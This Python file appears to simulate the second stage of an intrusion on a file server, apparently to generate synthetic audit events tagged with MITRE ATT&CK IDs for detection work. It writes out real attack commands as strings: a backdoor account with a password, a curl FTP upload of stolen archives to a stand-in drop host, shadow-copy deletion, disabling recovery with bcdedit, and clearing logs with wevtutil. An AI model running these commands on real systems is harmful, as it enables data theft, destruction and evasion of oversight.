"""The intrusion's second part, on the file server: a service, an account, collection, exfiltration, destruction.

Written for this project, like the first part in ``foothold.py``.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

import msgspec

from connector.demo.audit import add_member, change_account, clear_log, service, share, special_logon
from connector.demo.intruder import Intruder
from connector.demo.nouns import User

if TYPE_CHECKING:
    from connector.demo.cast import Cast
    from connector.demo.nouns import Process

_WORKSTATION = "10.44.7.147"
_DROP_HOST = "drop.tideline-claims.example"
_DROP_ADDRESS = "203.0.113.91"
_ARCHIVE = "C:\\PerfLogs\\Admin\\mill-0317.zpk"
_MACHINE_SID = "S-1-5-21-1306441877-3925560142-2048817731"
_OPERATORS = ("Backup Operators", "S-1-5-32-551")


def server(cast: Cast) -> None:
    """Tells the second part, from the network log-on at 10:20 to the cleared log at 10:32."""
    intruder = Intruder(cast, "fs", "10:20:13.604")
    implant = _land(intruder)
    _add_account(intruder, implant)
    _collect(intruder, implant)
    _exfiltrate(intruder, implant)
    _destroy(intruder, implant)
    intruder.plans("")


def _land(intruder: Intruder) -> Process:
    machine = intruder.machine
    admin = msgspec.structs.replace(intruder.cast.user("fs", "nfossum-adm"), logon_id="0x7c40b9", session=0)
    intruder.plans("The stolen administrator account logs on over the network", "T1021.002", "T1078.002")
    special_logon(
        machine,
        intruder.after(0),
        admin,
        ("SeSecurityPrivilege", "SeBackupPrivilege", "SeDebugPrivilege", "SeLoadDriverPrivilege"),
    )
    intruder.plans("The tool arrives", "T1570", "T1021.002")
    share(
        machine,
        intruder.after(9),
        admin,
        name="ADMIN$",
        folder="C:\\Windows",
        address=_WORKSTATION,
        file="stkpolicy.exe",
        write=True,
    )
    kernel = intruder.cast.running("fs", "system", "system")
    machine.create(intruder.after(0.1), kernel, "C:\\Windows\\stkpolicy.exe")
    intruder.plans("A service is installed", "T1543.003")
    manager = intruder.cast.running("fs", "services", "system")
    command = "C:\\Windows\\stkpolicy.exe -s 4471"
    key = "HKLM\\System\\CurrentControlSet\\Services\\StkPolicy"
    machine.set_value(intruder.after(6.5), manager, f"{key}\\ImagePath", command)
    service(machine, intruder.after(0.1), admin, "StkPolicy", command, start="auto start")
    intruder.plans("The service starts the tool", "T1569.002", "T1543.003")
    implant = intruder.runs(manager, "implant", command, wait=4)
    intruder.plans("The tool beacons", "T1071.001")
    machine.resolve(intruder.after(2), implant, _DROP_HOST, f"::ffff:{_DROP_ADDRESS};")
    machine.connect(intruder.after(0.3), implant, _DROP_ADDRESS, 443)
    return implant


def _add_account(intruder: Intruder, implant: Process) -> None:
    machine = intruder.machine
    system = implant.user
    account = User(name="svc_stkpolicy", domain="LMR-FS-02", sid=f"{_MACHINE_SID}-1009", logon_id="0x0")
    intruder.plans("A local account is made whose password never expires", "T1136.001")
    adding = intruder.runs(
        implant, "cmd", "cmd.exe /c net user svc_stkpolicy Tarn#88213-mill /add /expires:never", wait=61
    )
    intruder.runs(adding, "net", "net user svc_stkpolicy Tarn#88213-mill /add /expires:never", wait=0.1)
    change_account(machine, intruder.after(0.3), system, account)
    intruder.plans("It joins the backup operators, who may read every file", "T1098.007", "T1136.001")
    adding = intruder.runs(implant, "cmd", 'cmd.exe /c net localgroup "Backup Operators" svc_stkpolicy /add', wait=5)
    intruder.runs(adding, "net", 'net localgroup "Backup Operators" svc_stkpolicy /add', wait=0.1)
    add_member(machine, intruder.after(0.2), system, account, _OPERATORS)


def _collect(intruder: Intruder, implant: Process) -> None:
    machine = intruder.machine
    intruder.plans("Files are searched for by name", "T1083")
    intruder.runs(
        implant,
        "cmd",
        "cmd.exe /c dir /s /b D:\\Shares\\*payroll* D:\\Shares\\*contract*.pdf > C:\\PerfLogs\\Admin\\l.txt",
        wait=75,
    )
    machine.create(intruder.after(2.5), implant, "C:\\PerfLogs\\Admin\\l.txt")
    intruder.plans("An archiver is brought along", "T1105")
    machine.create(intruder.after(48), implant, "C:\\PerfLogs\\Admin\\zpk.exe")
    intruder.plans("The finds are packed with a password", "T1560.001")
    packing = intruder.runs(
        implant,
        "packer",
        f"C:\\PerfLogs\\Admin\\zpk.exe a -tzpk -mx=1 -v240m -pLoam-7719 -mhe=on {_ARCHIVE} @C:\\PerfLogs\\Admin\\l.txt",
        wait=30,
    )
    machine.create(intruder.after(41), packing, f"{_ARCHIVE}.001")
    machine.create(intruder.after(38), packing, f"{_ARCHIVE}.002")


def _exfiltrate(intruder: Intruder, implant: Process) -> None:
    machine = intruder.machine
    for part in ("001", "002"):
        intruder.plans("The archive leaves by FTP", "T1048.003")
        sending = intruder.runs(
            implant,
            "curl",
            f"curl.exe -sS -T {_ARCHIVE}.{part} ftp://{_DROP_HOST}/in/ --user quay:Loam-7719 --ftp-create-dirs",
            wait=25,
        )
        machine.resolve(intruder.after(0.2), sending, _DROP_HOST, f"::ffff:{_DROP_ADDRESS};")
        machine.connect(intruder.after(0.2), sending, _DROP_ADDRESS, 21)


def _destroy(intruder: Intruder, implant: Process) -> None:
    machine = intruder.machine
    intruder.plans("The backup agent is stopped", "T1489")
    intruder.runs(implant, "net", 'net stop "Quillback Backup Agent" /y', wait=310)
    intruder.plans("Shadow copies and recovery are removed", "T1490")
    intruder.runs(implant, "vssadmin", "vssadmin.exe delete shadows /for=D: /all /quiet", wait=8)
    intruder.runs(implant, "bcdedit", "bcdedit.exe /set {default} recoveryenabled no", wait=4)
    intruder.runs(implant, "bcdedit", "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures", wait=3)
    intruder.plans("The logs are cleared", "T1070.001")
    for log in ("System", "Microsoft-Windows-Sysmon/Operational", "Security"):
        intruder.runs(implant, "wevtutil", f'wevtutil.exe cl "{log}"', wait=5)
    clear_log(machine, intruder.after(0.3), implant.user)
